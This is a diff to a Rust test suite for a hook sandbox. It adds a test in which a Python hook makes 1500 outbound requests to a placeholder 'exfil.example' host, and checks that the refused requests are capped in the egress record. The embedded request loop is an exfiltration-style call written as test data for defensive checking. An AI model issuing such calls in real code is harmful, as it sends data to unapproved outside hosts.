@@ -179,3 +179,21 @@ async fn a_hostile_hook_does_not_disturb_the_next_one() {
     let outcome = fine.run_with(SESSION_CLOSE, &[], &Limits::default()).await;
     assert_eq!(outcome.stdout, "still fine\n");
 }
+
+#[tokio::test]
+async fn endless_refused_requests_do_not_grow_the_record_without_bound() {
+    let outcome = run_source(
+        "import hookbox\n\
+         for i in range(1500):\n\
+         \x20   try:\n\
+         \x20       hookbox.http.get(f'https://exfil.example/{i}')\n\
+         \x20   except hookbox.http.EgressDenied:\n\
+         \x20       pass\n\
+         print('done')\n",
+    )
+    .await;
+    assert_eq!(outcome.stdout, "done\n", "{:?}", outcome.error);
+    assert_eq!(outcome.egress.len(), 1000);
+    assert_eq!(outcome.egress_unrecorded, 500);
+    assert!(outcome.stderr_truncated);
+}
